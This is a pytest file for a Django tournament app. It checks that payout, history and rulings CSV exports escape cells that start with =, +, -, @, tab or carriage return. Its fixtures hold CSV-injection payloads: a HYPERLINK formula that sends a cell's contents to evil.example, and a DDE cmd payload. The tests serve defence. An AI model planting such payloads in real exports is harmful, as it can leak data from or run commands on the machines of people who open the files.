"""CSV downloads never hand a spreadsheet a formula (issue 17: `=HYPERLINK(...)` as a name)."""

from __future__ import annotations

import csv
import io

import pytest

from core.csvexport import csv_cell
from rules_engine.models import Ruling
from tournament.events import Actor, event_record
from tournament.models import Player

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(response):
    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode())))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna Berg", "Anna Berg"),
        ("-150", "-150"),
        ("+3.5", "+3.5"),
        (-150, -150),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_escaped(value, written):
    assert csv_cell(value) == written


def test_payout_csv_escapes_a_formula_name_and_keeps_negative_amounts(
    client, floor_user, make_tournament, register
):
    t = make_tournament(status="registering")
    entry = register(t, name=EVIL)
    type(entry).objects.filter(pk=entry.pk).update(place=1, prize=1000, paid_amount=1500)
    client.force_login(floor_user)
    rows = _cells(client.get(f"/console/t/{t.pk}/payouts/desk/?format=csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == "'" + EVIL
    assert row["open_cents"] == "-500"  # a number stays a number


def test_history_and_rulings_csv_escape_formulas(client, floor_user, make_tournament):
    t = make_tournament()
    event_record(tournament=t, action="clock.pause", actor=Actor(label=EVIL), payload={})
    Ruling.objects.create(
        tournament=t, situation="bet", decision=EVIL, reason="@evil", decided_by="-x"
    )
    client.force_login(floor_user)
    history = _cells(client.get(f"/console/t/{t.pk}/history.csv"))
    assert [r[2] for r in history[1:] if r[4] == "clock.pause"] == ["'" + EVIL]
    assert not any(cell.startswith(("=", "+", "@")) for r in history for cell in r)
    rulings = _cells(client.get(f"/console/t/{t.pk}/rulings.csv"))
    row = dict(zip(rulings[0], rulings[1], strict=True))
    assert (row["decision"], row["reason"], row["decided_by"]) == ("'" + EVIL, "'@evil", "'-x")
    assert Player.objects.count() == 0
